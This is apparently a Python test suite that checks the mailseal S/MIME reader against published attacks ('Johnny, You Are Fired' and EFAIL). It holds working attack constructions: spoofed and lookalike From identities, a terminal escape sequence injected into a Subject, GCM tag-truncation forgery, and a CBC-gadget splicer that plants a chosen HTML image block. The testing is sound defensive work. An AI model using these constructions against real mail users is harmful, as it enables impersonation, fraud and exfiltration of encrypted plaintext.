"""The reader against published S/MIME attacks, with messages made by other
tools than mailseal (openssl cms, Python's email package, hand-built DER):
"Johnny, You Are Fired" (USENIX Security 2019: identity, CMS, MIME wrapping,
UI redressing) and EFAIL (USENIX Security 2018: CBC gadgets, direct
exfiltration), and a damaged AuthEnvelopedData. docs/smime.md, "Reading",
says what mailseal does with each; each check names the class it covers."""
import base64
import email
import email.policy
import email.utils
import json
import os
import shutil
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tools"))
from mailseal_test import Home, check, finish, require_mailseal, skip  # noqa: E402

require_mailseal()
if shutil.which("openssl") is None:
    skip("openssl is not installed")

CRLF = b"\r\n"


def run(*arguments, stdin=None):
    result = subprocess.run(list(arguments), capture_output=True, input=stdin)
    if result.returncode != 0:
        raise RuntimeError(f"{' '.join(arguments)} failed: {result.stderr.decode(errors='replace')}")
    return result.stdout


def text(result):
    return (result.stdout + result.stderr).decode(errors="replace")


def crlf(data):
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def headers(**fields):
    """A header block (CRLF) from keyword fields; From_ for From."""
    lines = [f"{name.rstrip('_').replace('_', '-')}: {value}" for name, value in fields.items()]
    return ("\r\n".join(lines) + "\r\n").encode()


def now_date():
    return email.utils.formatdate(usegmt=True)


# --- DER, for what openssl will not make -----------------------------------

def der_length(n):
    if n < 0x80:
        return bytes([n])
    body = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(body)]) + body


def der(tag, content):
    return bytes([tag]) + der_length(len(content)) + content


def der_oid(dotted):
    parts = [int(p) for p in dotted.split(".")]
    body = bytes([40 * parts[0] + parts[1]])
    for value in parts[2:]:
        chunk = [value & 0x7F]
        value >>= 7
        while value:
            chunk.insert(0, 0x80 | (value & 0x7F))
            value >>= 7
        body += bytes(chunk)
    return der(0x06, body)


def read_tlv(data, offset):
    """(tag, content start, end) of the element at offset (definite lengths)."""
    tag = data[offset]
    length = data[offset + 1]
    start = offset + 2
    if length & 0x80:
        count = length & 0x7F
        length = int.from_bytes(data[start:start + count], "big")
        start += count
    return tag, start, start + length


def children(data, start, end):
    out = []
    while start < end:
        tag, content, stop = read_tlv(data, start)
        out.append((tag, start, content, stop))
        start = stop
    return out


def encrypted_content(data):
    """(iv offset, ciphertext start, ciphertext end) of an enveloped-data
    ContentInfo with a primitive [0] encryptedContent (openssl -outform DER)."""
    _, content, end = read_tlv(data, 0)
    explicit = children(data, content, end)[1]
    _, envelope_start, envelope_end = read_tlv(data, explicit[2])
    fields = children(data, envelope_start, envelope_end)
    info = next(f for f in fields if f[0] == 0x30)
    parts = children(data, info[2], info[3])
    algorithm = children(data, parts[1][2], parts[1][3])
    iv = algorithm[1]
    ciphertext = parts[2]
    assert ciphertext[0] == 0x80, "openssl wrote a constructed encryptedContent"
    return iv[2], ciphertext[2], ciphertext[3]


def rebuild(data, offset, target, replacement):
    """The element at offset with its descendant at `target` replaced by
    `replacement`, every enclosing length re-encoded."""
    tag, content_start, content_end = read_tlv(data, offset)
    out = b""
    for child_tag, child_start, _, child_end in children(data, content_start, content_end):
        if child_start == target:
            out += replacement
        elif child_start < target < child_end and child_tag & 0x20:
            out += rebuild(data, child_start, target, replacement)
        else:
            out += data[child_start:child_end]
    return der(tag, out)


def splice_gadget(cms, known, chosen):
    """EFAIL's CBC gadget on an AES-CBC enveloped-data: with the first
    plaintext block known, prepends blocks that decrypt to junk, `chosen`,
    junk, then the original plaintext; the padding stays valid."""
    iv_offset, start, end = encrypted_content(cms)
    iv, blocks = cms[iv_offset:iv_offset + 16], cms[start:end]
    gadget = bytes(a ^ b ^ c for a, b, c in zip(iv, known[:16], chosen))
    header_start = start - len(der_length(end - start)) - 1
    return rebuild(cms, 0, header_start, der(0x80, gadget + blocks[:16] + iv + blocks))


def gcm_fields(data):
    """(nonce, icvLen or None, mac) elements of an AuthEnvelopedData as
    (tag, start, content, end) tuples (openssl -outform DER)."""
    _, content, end = read_tlv(data, 0)
    explicit = children(data, content, end)[1]
    _, envelope_start, envelope_end = read_tlv(data, explicit[2])
    fields = children(data, envelope_start, envelope_end)
    info = next(f for f in fields if f[0] == 0x30)
    mac = next(f for f in fields if f[0] == 0x04 and f[1] > info[1])
    algorithm = children(data, *children(data, info[2], info[3])[1][2:4])
    parameters = children(data, algorithm[1][2], algorithm[1][3])
    return parameters[0], (parameters[1] if len(parameters) > 1 else None), mac, algorithm[1]


def gcm_variant(data, icv_length, mac_length, nonce_length=12, flip_at=None):
    """The AuthEnvelopedData with its GCMParameters and mac rewritten (RFC
    5084 allows a tag of 12 to 16 bytes and says so in aes-ICVlen)."""
    nonce, _, mac, parameters = gcm_fields(data)
    original_mac = data[mac[2]:mac[3]]
    data = rebuild(data, 0, mac[1], der(0x04, original_mac[:mac_length]))
    nonce, _, _, parameters = gcm_fields(data)
    icv = b"" if icv_length is None else der(0x02, bytes([icv_length]))
    data = rebuild(data, 0, parameters[1], der(0x30, der(0x04, data[nonce[2]:nonce[2] + nonce_length]) + icv))
    if flip_at is not None:
        data = bytearray(data)
        data[flip_at(data)] ^= 0x01
        data = bytes(data)
    return data


def smime_body(message):
    """The DER of an application/pkcs7-mime message (base64 body)."""
    _, _, body = crlf(message).partition(b"\r\n\r\n")
    return base64.b64decode(b"".join(body.split()))


def pkcs7_message(der_bytes, smime_type, top):
    encoded = base64.encodebytes(der_bytes).replace(b"\n", b"\r\n")
    return top + (f"MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type={smime_type}; "
                  f"name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n").encode() + encoded


with tempfile.TemporaryDirectory() as work:
    def path(name):
        return os.path.join(work, name)

    def write(name, data):
        with open(path(name), "wb") as handle:
            handle.write(data)
        return path(name)

    alice, bob = Home(work, "Alice"), Home(work, "Bob")
    alice.must("init", "alice@example.com", "--name", "Alice")
    bob.must("init", "bob@example.org", "--name", "Bob")
    # Mallory and Eve: certificates of their own, made with openssl.
    for person in ("mallory", "eve"):
        run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "30", "-subj", f"/CN={person}",
            "-addext", f"subjectAltName=email:{person}@evil.example", "-addext", "keyUsage=critical,digitalSignature",
            "-addext", "extendedKeyUsage=emailProtection", "-keyout", path(f"{person}.key"),
            "-out", path(f"{person}.pem"))
    # Bob's encryption certificate, as anyone who has his certificates has it.
    bundle = open(bob.certificates()).read()
    pems = ["-----BEGIN CERTIFICATE-----" + chunk for chunk in bundle.split("-----BEGIN CERTIFICATE-----")[1:]]
    bob_encryption = None
    for pem in pems:
        described = run("openssl", "x509", "-noout", "-ext", "keyUsage", stdin=pem.encode()).decode()
        if "Key Encipherment" in described or "Key Agreement" in described:
            bob_encryption = write("bob-encryption.pem", pem.encode())
    if not check(bob_encryption is not None, "setup: Bob's encryption certificate is among his certificates"):
        finish(minimum=1)

    def openssl_sign(signer, content, *options):
        source = write("to-sign", content)
        return run("openssl", "cms", "-sign", "-signer", path(f"{signer}.pem"), "-inkey", path(f"{signer}.key"),
                   "-md", "sha256", "-in", source, *options)

    def openssl_encrypt(payload, cipher, *options):
        source = write("to-encrypt", payload)
        return run("openssl", "cms", "-encrypt", f"-{cipher}", "-recip", bob_encryption, "-in", source, *options)

    def verify(message, *options, home=bob):
        out = path("verified.eml")
        if os.path.exists(out):
            os.remove(out)
        result = home.run("verify", write("in.eml", message), "-o", out, *options)
        return result, os.path.exists(out)

    def decrypt(message, *options):
        out = path("decrypted.eml")
        if os.path.exists(out):
            os.remove(out)
        result = bob.run("decrypt", write("in.eml", message), "-o", out, *options)
        written = open(out, "rb").read() if os.path.exists(out) else None
        return result, written

    def as_json(result):
        try:
            return json.loads(result.stdout)
        except ValueError:
            return {}

    letter = headers(From="Alice <alice@example.com>", To="bob@example.org", Subject="Lunch") + \
        b"\r\nShall we meet at noon?\r\n"
    alice_signed = alice.must("sign", write("letter.eml", letter)).stdout
    alice_opaque = alice.must("sign", "--opaque", write("letter.eml", letter)).stdout
    result, written = verify(alice_signed)
    check(result.returncode == 0 and written, "baseline: Alice's signed message verifies", text(result))

    # --- Identity (JYAF) ---------------------------------------------------
    inner = headers(From="alice@example.com", To="bob@example.org", Subject="Invoice") + \
        b"Content-Type: text/plain\r\n\r\nPay Mallory's invoice today.\r\n"
    mallory_inner = openssl_sign("mallory", inner)
    for outer_from in ("alice@example.com", "mallory@evil.example"):
        payload = crlf(mallory_inner)
        encrypted = openssl_encrypt(payload, "aes-256-gcm")
        message = headers(From=outer_from, To="bob@example.org", Subject="[...]", Date=now_date()) + crlf(encrypted)
        result, written = decrypt(message, "--allow-bad-signature")
        out = text(result)
        check(result.returncode == 1 and written is None,
              f"identity.inner_from_not_signer (outer From {outer_from}): exit 1, nothing written", out)
        check("alice@example.com" in out and "mallory@evil.example" in out,
              f"identity.inner_from_not_signer (outer From {outer_from}): the refusal names both addresses", out)
        check("good signature" not in out, f"identity.inner_from_not_signer (outer From {outer_from}): never good",
              out)

    # Python's email package, as a script would: an opaque message's headers
    # edited, its body left as it is.
    edited = email.message_from_bytes(alice_opaque, policy=email.policy.compat32)
    edited["From"] = "mallory@evil.example"  # a second From field
    result, written = verify(edited.as_bytes())
    check(result.returncode == 1 and not written and "mallory@evil.example" in text(result),
          "identity.two_from_fields (added with Python's email package): exit 1, nothing written", text(result))
    opaque_inner = email.message_from_bytes(openssl_sign("mallory", inner, "-nodetach"),
                                            policy=email.policy.compat32)
    opaque_inner["From"] = "alice@example.com"
    opaque_inner["To"] = "bob@example.org"
    sealed = email.message_from_bytes(crlf(openssl_encrypt(crlf(opaque_inner.as_bytes()), "aes-256-gcm")),
                                      policy=email.policy.compat32)
    sealed["From"] = "Alice <alice@example.com>"
    sealed["To"] = "bob@example.org"
    sealed["Date"] = now_date()
    result, written = decrypt(sealed.as_bytes(), "--allow-bad-signature")
    check(result.returncode == 1 and written is None and
          "signed by mallory@evil.example, but the message is from alice@example.com" in text(result),
          "identity.inner_from_not_signer (opaque, made with Python's email package): exit 1 naming both",
          text(result))
    two_from = b"From: mallory@evil.example\r\n" + crlf(alice_signed)
    result, written = verify(two_from)
    check(result.returncode == 1 and not written, "identity.two_from_fields: exit 1, -o writes nothing", text(result))
    check("alice@example.com" in text(result) and "mallory@evil.example" in text(result),
          "identity.two_from_fields: names both addresses", text(result))
    report = as_json(bob.run("--json", "verify", path("in.eml")))
    check(report.get("valid") is False and report.get("identity_problems"),
          "identity.two_from_fields: JSON valid false with identity_problems", report)
    two_mailboxes = crlf(alice_signed).replace(b"From: Alice <alice@example.com>",
                                               b"From: Alice <alice@example.com>, mallory@evil.example", 1)
    result, written = verify(two_mailboxes)
    check(result.returncode == 1 and not written, "identity.two_mailboxes: one From with two mailboxes fails",
          text(result))

    unsigned_gcm = openssl_encrypt(b"Content-Type: text/plain\r\n\r\nPay Mallory.\r\n", "aes-256-gcm")
    result, written = decrypt(headers(From="alice@example.com", To="bob@example.org") +
                              b"From: mallory@evil.example\r\n" + crlf(unsigned_gcm), "--allow-unauthenticated")
    check(result.returncode == 1 and written is None and "alice@example.com" in text(result) and
          "mallory@evil.example" in text(result),
          "identity.two_from_fields (unsigned, encrypted): no flag releases it; both addresses named", text(result))
    not_signer = headers(From="alice@example.com", To="bob@example.org", Subject="Hi", Date=now_date()) + \
        crlf(openssl_sign("mallory", b"Content-Type: text/plain\r\n\r\nIt is me, Alice.\r\n"))
    result, written = verify(not_signer)
    check(result.returncode == 1 and not written and "mallory@evil.example" in text(result) and
          "alice@example.com" in text(result), "identity.from_not_signer: exit 1 naming both, nothing written",
          text(result))

    # A sealed message signed again (nested opaque signatures, openssl -nodetach):
    # the inner layer says From Alice, Mallory signed both.
    wire = b"Content-Type: text/plain\r\n\r\nBob, please wire 10000 EUR to Mallory. -- Alice\r\n"
    alice_fields = headers(From="Alice <alice@example.com>", To="bob@example.org", Date=now_date())
    for inner_signer in ("mallory", "eve"):
        inner_der = openssl_sign(inner_signer, alice_fields + wire, "-nodetach", "-binary", "-outform", "DER")
        inner_entity = pkcs7_message(inner_der, "signed-data", alice_fields)
        outer_der = openssl_sign("mallory", inner_entity, "-nodetach", "-binary", "-outform", "DER")
        resealed = pkcs7_message(outer_der, "signed-data", headers(From="mallory@evil.example", To="bob@example.org",
                                                                   Subject="Fwd", Date=now_date()))
        result, written = verify(resealed)
        check(result.returncode == 1 and not written and "good signature" not in text(result) and
              f"signed by {inner_signer}@evil.example, but the message is from alice@example.com" in text(result),
              f"identity.resealed_inner_from_not_signer (inner signed by {inner_signer}): exit 1 naming both, "
              "nothing written", text(result))
        report = as_json(bob.run("--json", "verify", path("in.eml")))
        check(report.get("valid") is False and report.get("identity_problems"),
              f"identity.resealed_inner_from_not_signer (inner signed by {inner_signer}): JSON invalid", report)
        encrypted = openssl_encrypt(inner_entity, "aes-256-gcm")
        result, written = decrypt(headers(From="mallory@evil.example", To="bob@example.org", Date=now_date()) +
                                  crlf(encrypted), "--allow-bad-signature")
        check(result.returncode == 1 and written is None and "alice@example.com" in text(result),
              f"identity.resealed_inner_from_not_signer (encrypted, inner signed by {inner_signer}): exit 1, "
              "nothing written", text(result))

    # A From that mailseal's parser refuses but mail clients show as Alice,
    # inside Mallory's signature (signed-only and encrypted) and outside it.
    for label, shown in (("quoted_local", 'Alice <"alice"@example.com>'), ("nbsp", "Alice <alice@example.com\u00a0>"),
                         ("ip_literal", "Alice <alice@[192.0.2.1]>"), ("dotless_domain", "Alice <alice@localhost>")):
        inner_fields = ("From: " + shown + "\r\nTo: bob@example.org\r\n").encode()
        mallory_top = headers(From="mallory@evil.example", To="bob@example.org", Date=now_date())
        result, written = verify(mallory_top + crlf(openssl_sign("mallory", inner_fields + wire)))
        check(result.returncode == 1 and not written and "not one valid mailbox" in text(result) and
              "good signature" not in text(result),
              f"identity.unparsed_from.{label} (signed inner From): exit 1, nothing written", text(result))
        signed = crlf(openssl_sign("mallory", inner_fields + wire))
        result, written = decrypt(mallory_top + crlf(openssl_encrypt(inner_fields + signed, "aes-256-gcm")),
                                  "--allow-bad-signature")
        check(result.returncode == 1 and written is None and "not one valid mailbox" in text(result),
              f"identity.unparsed_from.{label} (encrypted inner From): exit 1, nothing written", text(result))
        result, written = verify(inner_fields + crlf(openssl_sign("mallory", wire)))
        check(result.returncode == 1 and not written and "not one valid mailbox" in text(result),
              f"identity.unparsed_from.{label} (outer From): exit 1, nothing written", text(result))

    display = crlf(alice.must("sign", write("display.eml", letter.replace(
        b"From: Alice <alice@example.com>", b'From: "bob@example.org" <alice@example.com>'))).stdout)
    result, written = verify(display)
    check(result.returncode == 0 and "display name shows the address bob@example.org" in text(result),
          "identity.display_name: the display name's other address is reported (text)", text(result))
    report = as_json(bob.run("--json", "verify", write("in.eml", display)))
    check(any("bob@example.org" in w for w in report.get("warnings", [])),
          "identity.display_name: reported in JSON warnings", report)
    # Display names that look like Alice's address, on Mallory's own valid
    # signature (what a client shows is "alice@example.com").
    zwsp_word = "=?utf-8?b?" + base64.b64encode("alice@\u200bexample.com".encode()).decode() + "?="
    lookalikes = {"fullwidth_at": "alice\uff20example.com", "small_at": "alice\ufe6bexample.com",
                  "zero_width_space": "alice@\u200bexample.com", "encoded_zero_width_space": zwsp_word,
                  "right_to_left_override": "\u202emoc.elpmaxe@ecila\u202c", "spaced_at": "alice @ example.com",
                  "dotless": '"alice@example"'}
    mallory_body = crlf(openssl_sign("mallory", b"Content-Type: text/plain\r\n\r\nPay the invoice. -- Alice\r\n"))
    for label, name in lookalikes.items():
        message = ("From: " + name + " <mallory@evil.example>\r\n").encode() + \
            headers(To="bob@example.org", Subject="Invoice", Date=now_date()) + mallory_body
        report = as_json(bob.run("--json", "verify", write("in.eml", message)))
        check(report.get("valid") is True and any("From" in w and "mallory@evil.example" in w
                                                  for w in report.get("warnings", [])),
              f"identity.display_name_lookalike.{label}: reported (JSON warnings)", report)
        result = bob.run("verify", path("in.eml"))
        check("mallory@evil.example" in text(result) and "warning" in text(result),
              f"identity.display_name_lookalike.{label}: reported (text)", text(result))
    plain = b"From: Mallory <mallory@evil.example>\r\n" + \
        headers(To="bob@example.org", Subject="Invoice", Date=now_date()) + mallory_body
    report = as_json(bob.run("--json", "verify", write("in.eml", plain)))
    check(report.get("valid") is True and not report.get("warnings"),
          "identity.display_name_lookalike.none: an ordinary display name is not reported", report)

    sender = crlf(alice.must("sign", write("sender.eml", b"Sender: mallory@evil.example\r\n" + letter)).stdout)
    report = as_json(bob.run("--json", "verify", write("in.eml", sender)))
    check(any("Sender" in w and "mallory@evil.example" in w for w in report.get("warnings", [])),
          "identity.sender: a Sender other than From is reported", report)

    # Date, content fields and Sender that clients read one way and mailseal another.
    result, written = verify(b"Date: Mon, 1 Jan 2024 00:00:00 +0000\r\n" + crlf(alice_signed))
    check(result.returncode == 1 and not written and "2 Date fields" in text(result),
          "identity.two_date_fields: exit 1, nothing written", text(result))
    undated = headers(From="mallory@evil.example", To="bob@example.org", Subject="Invoice") + \
        crlf(openssl_sign("mallory", b"Content-Type: text/plain\r\n\r\nPay the invoice.\r\n", "-noattr"))
    report = as_json(bob.run("--json", "verify", write("in.eml", undated)))
    check(any("no readable Date" in w for w in report.get("warnings", [])),
          "identity.no_date_no_signing_time (openssl -noattr, no Date): reported", report)
    dated = headers(From="mallory@evil.example", To="bob@example.org", Subject="Invoice", Date=now_date()) + \
        crlf(openssl_sign("mallory", b"Content-Type: text/plain\r\n\r\nPay the invoice.\r\n"))
    report = as_json(bob.run("--json", "verify", write("in.eml", dated)))
    check(report.get("valid") is True and not any("no readable Date" in w for w in report.get("warnings", [])),
          "identity.no_date_no_signing_time: a dated, time-signed message is not reported", report)
    result, written = verify(crlf(alice_opaque))
    check(result.returncode == 0 and written, "mime.duplicate: (baseline) Alice's opaque message verifies", text(result))
    for field in (b"Content-Type: text/plain\r\n", b"Content-Transfer-Encoding: 8bit\r\n"):
        name = field.split(b":")[0].decode()
        result, written = verify(field + crlf(alice_opaque))
        check(result.returncode == 1 and not written and f"2 {name} fields" in text(result),
              f"mime.duplicate_{name.lower()}: refused, exit 1, nothing written", text(result))
    doubled = headers(From="mallory@evil.example", To="bob@example.org", Date=now_date()) + \
        b"Content-Type: text/html\r\n" + crlf(openssl_sign("mallory", b"Content-Type: text/plain\r\n\r\nHi\r\n"))
    result, written = verify(doubled)
    check(result.returncode == 1 and not written and "2 Content-Type fields" in text(result),
          "mime.duplicate_content-type (around a multipart/signed): refused", text(result))
    for label, field in (("sender_unparsed", 'Sender: Alice <"alice"@example.com>'),
                         ("resent_from", "Resent-From: alice@example.com")):
        message = (field + "\r\n").encode() + dated
        report = as_json(bob.run("--json", "verify", write("in.eml", message)))
        check(any("alice" in w and "mallory@evil.example" in w for w in report.get("warnings", [])),
              f"identity.{label}: reported", report)

    # --- Header protection and forwarding (signed-only, RFC 9788) ----------
    protected = headers(From="mallory@evil.example", To="carol@example.net", Subject="Lunch") + \
        b"Content-Type: text/plain\r\n\r\nShall we meet at noon?\r\n"
    signed_protected = headers(From="mallory@evil.example", To="bob@example.org", Subject="You are fired",
                               Date=now_date()) + crlf(openssl_sign("mallory", protected))
    result, written = verify(signed_protected)
    out = text(result)
    check(result.returncode == 0, "header_protection: the signature itself holds", out)
    check("Subject" in out and "the signed one counts" in out, "header_protection: the changed Subject is reported",
          out)
    output = open(path("verified.eml"), "rb").read() if written else b""
    check(b"Subject: Lunch" in output and b"You are fired" not in output,
          "header_protection: -o writes the signed Subject, never the outer one", output[:300])
    check("do not name you" in out, "forwarding.surreptitious: signed To/Cc without the reader are reported", out)
    report = as_json(bob.run("--json", "verify", path("in.eml")))
    check(report.get("addressed_to_reader") is False, "forwarding.surreptitious: JSON addressed_to_reader false",
          report)
    hostile = signed_protected.replace(b"Subject: You are fired", b"Subject: \x1b]0;owned\x07You are fired")
    result, written = verify(hostile)
    check(b"\x1b" not in result.stderr and b"\x07" not in result.stderr and "You are fired" in text(result),
          "header_protection: the outer field is reported escaped, once, in text", result.stderr)
    report = as_json(bob.run("--json", "verify", path("in.eml")))
    check(any("\x1b]0;owned\x07" in w for w in report.get("warnings", [])),
          "header_protection: and raw in JSON", report.get("warnings"))
    to_bob = protected.replace(b"carol@example.net", b"bob@example.org")
    signed_to_bob = headers(From="mallory@evil.example", To="bob@example.org", Subject="Lunch",
                            Date=now_date()) + crlf(openssl_sign("mallory", to_bob))
    report = as_json(bob.run("--json", "verify", write("in.eml", signed_to_bob)))
    check(report.get("addressed_to_reader") is True and
          not any("do not name you" in w for w in report.get("warnings", [])),
          "forwarding.addressed: signed To naming the reader, no forwarding warning", report)

    # --- CMS (JYAF) ---------------------------------------------------------
    signature_der = smime_body(alice_opaque)
    block, _, _ = crlf(alice_signed).partition(b"\r\n\r\n")
    boundary = b"confusion"
    confused = (headers(From="Alice <alice@example.com>", To="bob@example.org", Subject="Lunch", Date=now_date()) +
                b'MIME-Version: 1.0\r\nContent-Type: multipart/signed; protocol="application/pkcs7-signature"; '
                b'micalg=sha-256; boundary="confusion"\r\n\r\n--confusion\r\nContent-Type: text/plain\r\n\r\n'
                b"Wire the money to Mallory.\r\n--confusion\r\nContent-Type: application/pkcs7-signature; "
                b"name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
                base64.encodebytes(signature_der).replace(b"\n", b"\r\n") + b"--confusion--\r\n")
    result, written = verify(confused)
    check(result.returncode == 1 and not written and "good signature" not in text(result),
          "cms.econtent_confusion: a multipart/signed whose signature carries eContent is not good", text(result))
    check("content of its own" in text(result), "cms.econtent_confusion: says why", text(result))

    resigned = run("openssl", "cms", "-resign", "-in", write("opaque.eml", alice_opaque), "-signer",
                   path("mallory.pem"), "-inkey", path("mallory.key"), "-md", "sha256", "-nodetach", "-outform", "DER")
    two_signers = pkcs7_message(resigned, "signed-data", headers(From="alice@example.com", To="bob@example.org",
                                                                 Date=now_date()))
    result, written = verify(two_signers)
    check(result.returncode == 1 and not written and "2 signers" in text(result),
          "cms.two_signers (Alice and Mallory, both verify): refused, exactly one signer accepted", text(result))
    broken = bytearray(resigned)
    broken[-1] ^= 0x01  # the last signerInfo's signature value
    result, written = verify(pkcs7_message(bytes(broken), "signed-data",
                                           headers(From="alice@example.com", To="bob@example.org", Date=now_date())))
    check(result.returncode == 1 and not written and "good signature" not in text(result),
          "cms.two_signers (one valid, one broken): never good", text(result))
    econtent = der(0x30, der_oid("1.2.840.113549.1.7.1") +
                   der(0xA0, der(0x04, b"Content-Type: text/plain\r\n\r\nPay Mallory.\r\n")))
    signed_data = der(0x30, der(0x02, b"\x01") + der(0x31, b"") + econtent + der(0x31, b""))
    no_signers = der(0x30, der_oid("1.2.840.113549.1.7.2") + der(0xA0, signed_data))
    result, written = verify(pkcs7_message(no_signers, "signed-data",
                                           headers(From="alice@example.com", To="bob@example.org", Date=now_date())))
    check(result.returncode == 1 and not written and "no signer" in text(result),
          "cms.no_signers (hand-built DER): says there is no signer, exit 1", text(result))

    # --- MIME wrapping and UI redressing (JYAF) ----------------------------
    signed_entity = crlf(alice_signed).split(b"\r\n\r\n", 1)
    signed_part = b"\r\n".join(line for line in signed_entity[0].split(b"\r\n")
                               if line.lower().startswith((b"content-", b" ", b"\t"))) + b"\r\n\r\n" + signed_entity[1]
    top = headers(From="Alice <alice@example.com>", To="bob@example.org", Subject="Lunch", Date=now_date())

    def mixed(subtype, *parts):
        body = b"".join(b"--wrap\r\n" + part + b"\r\n" for part in parts) + b"--wrap--\r\n"
        return top + f'MIME-Version: 1.0\r\nContent-Type: multipart/{subtype}; boundary="wrap"\r\n\r\n'.encode() + body

    wrappings = {
        "prepended_text": mixed("mixed", b"Content-Type: text/plain\r\n\r\nPay Mallory's invoice today.\r\n",
                                signed_part),
        "hidden_html": mixed("related", b"Content-Type: text/html\r\n\r\n<p>Pay Mallory.</p>"
                                        b"<div style=\"display:none\">\r\n", signed_part),
        "cid_reference": mixed("related", b"Content-Type: text/html\r\n\r\n<p>Pay Mallory.</p>"
                                          b"<iframe src=\"cid:signed@wrap\"></iframe>\r\n",
                               b"Content-ID: <signed@wrap>\r\n" + signed_part),
        "as_attachment": mixed("mixed", b"Content-Type: text/plain\r\n\r\nSee the attached.\r\n",
                               b"Content-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\n" +
                               crlf(alice_signed)),
        "nested_in_mixed": mixed("mixed", signed_part),
    }
    for name, message in wrappings.items():
        result, written = verify(message)
        check(result.returncode == 1 and not written and "not signed as a whole" in text(result) and
              "good signature" not in text(result),
              f"mime_wrapping.{name}: not signed as a whole, exit 1, nothing released", text(result))

    redress = headers(From="alice@example.com", To="bob@example.org", Subject="Signed", Date=now_date()) + \
        b"\r\nmailseal: good signature from alice@example.com (SHA-256, 2026-01-01T00:00:00Z)\r\n"
    result, written = verify(redress)
    check(result.returncode == 1 and not written and result.stdout == b"" and
          text(result).strip().endswith("the message is not signed"),
          "ui_redressing.text: a body that claims a good signature: exit 1, 'not signed'", text(result))
    image = mixed("related", b"Content-Type: text/html\r\n\r\n<img src=\"cid:seal@x\"> Signed by Alice\r\n",
                  b"Content-Type: image/png\r\nContent-ID: <seal@x>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                  b"iVBORw0KGgo=\r\n")
    result, written = verify(image)
    check(result.returncode == 1 and not written and "good signature" not in text(result),
          "ui_redressing.image: a signature-like image: exit 1", text(result))

    # --- AuthEnvelopedData altered in transit -------------------------------
    long_body = b"Content-Type: text/plain\r\n\r\n" + b"The quarterly numbers follow.\r\n" * 80
    gcm = openssl_encrypt(long_body, "aes-256-gcm", "-outform", "DER")
    _, start, end = encrypted_content(gcm)
    for label, position in (("ciphertext", (start + end) // 2), ("tag", len(gcm) - 3)):
        damaged = bytearray(gcm)
        damaged[position] ^= 0x20
        message = pkcs7_message(bytes(damaged), "authEnveloped-data",
                                headers(From="alice@example.com", To="bob@example.org", Date=now_date()))
        result, written = decrypt(message)
        check(result.returncode == 1 and written is None and "altered in transit" in text(result) and
              "not encrypted to any" not in text(result),
              f"gcm.tampered_{label}: reported as altered in transit, nothing written", text(result))

    # Truncated tags (RFC 5084's aes-ICVlen and the mac, hand-made DER): a
    # 1-byte tag would let one in 256 altered ciphertexts through.
    def middle_of_ciphertext(data):
        _, start, end = encrypted_content(data)
        return (start + end) // 2

    def decrypt_gcm(data):
        return decrypt(pkcs7_message(data, "authEnveloped-data",
                                     headers(From="alice@example.com", To="bob@example.org", Date=now_date())))

    result, written = decrypt_gcm(gcm_variant(gcm, 16, 16))
    check(result.returncode == 0 and written is not None and b"quarterly numbers" in written,
          "gcm.rebuilt_unchanged: the rebuilt structure with a 16-byte tag decrypts (the rewriting is sound)",
          text(result))
    for label, icv_length, mac_length, nonce_length in (("mac_1_icv_16", 16, 1, 12), ("mac_4_icv_4", 4, 4, 12),
                                                         ("mac_12_icv_default", None, 12, 12),
                                                         ("mac_12_icv_12", 12, 12, 12), ("nonce_8", 16, 16, 8),
                                                         ("mac_16_icv_12", 12, 16, 12)):
        result, written = decrypt_gcm(gcm_variant(gcm, icv_length, mac_length, nonce_length))
        check(result.returncode == 1 and written is None and "altered in transit" in text(result) and
              "16-byte authentication tag" in text(result),
              f"gcm.truncated_tag.{label}: refused as altered in transit, exit 1, nothing written", text(result))
    forged = gcm_variant(gcm, 1, 1, flip_at=middle_of_ciphertext)
    accepted = []
    for guess in range(256):
        nonce, _, mac, _ = gcm_fields(forged)
        attempt = bytearray(forged)
        attempt[mac[2]] = guess
        result, written = decrypt_gcm(bytes(attempt))
        if result.returncode == 0 or written is not None:
            accepted.append(guess)
    check(not accepted, "gcm.truncated_tag.forgery: none of the 256 one-byte tags on altered ciphertext is accepted",
          accepted)

    # --- EFAIL: CBC gadgets --------------------------------------------------
    victim = headers(From="alice@example.com", To="bob@example.org", Subject="Secret") + \
        b"Content-Type: text/plain\r\n\r\nThe launch code is 0000.\r\n"
    cbc = openssl_encrypt(victim, "aes-256-cbc", "-outform", "DER")
    top_cbc = headers(From="alice@example.com", To="bob@example.org", Subject="[...]", Date=now_date())
    result, written = decrypt(pkcs7_message(cbc, "enveloped-data", top_cbc))
    check(result.returncode == 1 and written is None and "without authentication" in text(result) and
          "--allow-unauthenticated" in text(result),
          "efail.cbc_unsigned: unsigned CBC content is withheld, saying why and how to read it", text(result))
    result, written = decrypt(pkcs7_message(cbc, "enveloped-data", top_cbc), "--allow-unauthenticated")
    check(result.returncode == 0 and written is not None and b"launch code" in written,
          "efail.cbc_unsigned: --allow-unauthenticated reads it", text(result))
    known, chosen = victim[:16], b'<img src="http:/'
    gadget_der = splice_gadget(cbc, known, chosen)
    result, written = decrypt(pkcs7_message(gadget_der, "enveloped-data", top_cbc))
    check(result.returncode == 1 and written is None and "without authentication" in text(result),
          "efail.cbc_gadget: the spliced ciphertext decrypts, but nothing is released", text(result))
    result, written = decrypt(pkcs7_message(gadget_der, "enveloped-data", top_cbc), "--allow-unauthenticated")
    check(written is not None and chosen in written,
          "efail.cbc_gadget: (what the policy prevents) the chosen block is in the opted-in output",
          (written or b"")[:200])
    signed_victim = crlf(openssl_sign("mallory", headers(From="mallory@evil.example", To="bob@example.org") +
                                      b"Content-Type: text/plain\r\n\r\nThe launch code is 0000.\r\n"))
    signed_cbc = openssl_encrypt(headers(From="mallory@evil.example", To="bob@example.org") + signed_victim,
                                 "aes-256-cbc", "-outform", "DER")
    top_signed = headers(From="mallory@evil.example", To="bob@example.org", Subject="[...]", Date=now_date())
    result, written = decrypt(pkcs7_message(signed_cbc, "enveloped-data", top_signed))
    check(result.returncode == 0 and written is not None and b"launch code" in written,
          "efail.cbc_signed: CBC content under a valid signature from the From address is released", text(result))
